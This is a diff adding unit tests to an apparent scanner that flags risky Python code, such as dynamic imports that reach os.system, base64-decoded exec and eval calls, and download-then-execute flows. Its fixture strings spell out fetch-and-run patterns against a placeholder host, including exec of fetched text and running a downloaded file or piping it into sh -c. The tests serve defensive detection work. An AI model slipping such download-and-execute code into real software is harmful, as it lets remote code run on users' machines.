@@ -75,4 +75,98 @@ describe('names resolved as Python runs them', () => {
       [3, 'decode-execute', 'exec', 'module']
     ])
   })
+
+  it('resolves attributes of by-name imports, also bound to names first', () => {
+    const code = [
+      'import importlib',
+      "run = importlib.import_module('subprocess').Popen",
+      "run(['id'])",
+      "__import__('os').system('id')",
+      "getattr(__import__('os'), 'system')('id')",
+      "check = getattr(importlib.import_module('subprocess'), 'check_output')",
+      "check(['id'])",
+      "__import__('urllib.request').request.urlopen('https://x.example')",
+      // Python returns the top package here: `os`, whose `system` runs.
+      "__import__('os.path').system('id')",
+      "__import__('urllib.request', fromlist=['x']).urlopen('https://x.example')",
+      'import builtins, base64',
+      "builtins.exec(base64.b64decode('cHJpbnQoMSk='))",
+      "getattr(builtins, 'eval')(base64.b64decode('MQ=='))"
+    ].join('\n')
+    expect(found(code)).toEqual([
+      [3, 'process', 'subprocess.Popen', 'module'],
+      [4, 'process', 'os.system', 'module'],
+      [5, 'process', 'os.system', 'module'],
+      [7, 'process', 'subprocess.check_output', 'module'],
+      [8, 'network', 'urllib.request.urlopen', 'module'],
+      [9, 'process', 'os.system', 'module'],
+      [10, 'network', 'urllib.request.urlopen', 'module'],
+      [12, 'decode-execute', 'exec', 'module'],
+      [13, 'decode-execute', 'eval', 'module']
+    ])
+  })
+})
+
+describe('downloads and runs code: fetch then run in one flow', () => {
+  it('names the download that is executed, spawned or written to a file a process runs', () => {
+    const code = [
+      'import os, requests, subprocess',
+      'from urllib.request import urlopen',
+      "exec(urlopen('https://x.example/a.py').read())",
+      'def from_text(u):',
+      '    data = requests.get(u).text',
+      '    exec(data)',
+      'def to_file(url, folder):',
+      '    r = requests.get(url, stream=True)',
+      "    target = os.path.join(folder, 'agent')",
+      "    with open(target, 'wb') as f:",
+      '        for chunk in r.iter_content(1024):',
+      '            f.write(chunk)',
+      "    subprocess.Popen([target, '-d'])",
+      'def piped(u):',
+      "    subprocess.run(['sh', '-c', requests.get(u).text])"
+    ].join('\n')
+    expect(found(code)).toEqual([
+      [3, 'download-execute', 'urllib.request.urlopen → exec', 'module'],
+      [6, 'download-execute', 'requests.get → exec', 'function'],
+      [13, 'download-execute', 'requests.get → subprocess.Popen', 'function'],
+      [15, 'download-execute', 'requests.get → subprocess.run', 'function']
+    ])
+  })
+
+  it('a fetch and an unrelated process in one function, or in two functions, are each what they are', () => {
+    const code = [
+      'import requests, subprocess',
+      'def release(url, path):',
+      '    requests.get(url)',
+      "    subprocess.run(['git', 'status'])",
+      'def fetch(u):',
+      '    return requests.get(u).text',
+      'def run(script):',
+      '    exec(script)'
+    ].join('\n')
+    expect(found(code)).toEqual([
+      [3, 'network', 'requests.get', 'function'],
+      [4, 'process', 'subprocess.run', 'function'],
+      [6, 'network', 'requests.get', 'function']
+    ])
+  })
+
+  it('a downloaded file handed to a program that only reads it is no download-and-run', () => {
+    const code = [
+      'import subprocess, sys',
+      'from urllib.request import urlretrieve',
+      'def unpack(url, path):',
+      '    urlretrieve(url, path)',
+      "    subprocess.run(['tar', 'xf', path])",
+      'def install(url, path):',
+      '    urlretrieve(url, path)',
+      '    subprocess.run([sys.executable, path])'
+    ].join('\n')
+    expect(found(code)).toEqual([
+      [4, 'network', 'urllib.request.urlretrieve', 'function'],
+      [5, 'process', 'subprocess.run', 'function'],
+      [8, 'download-execute', 'urllib.request.urlretrieve → subprocess.run', 'function']
+    ])
+  })
 })
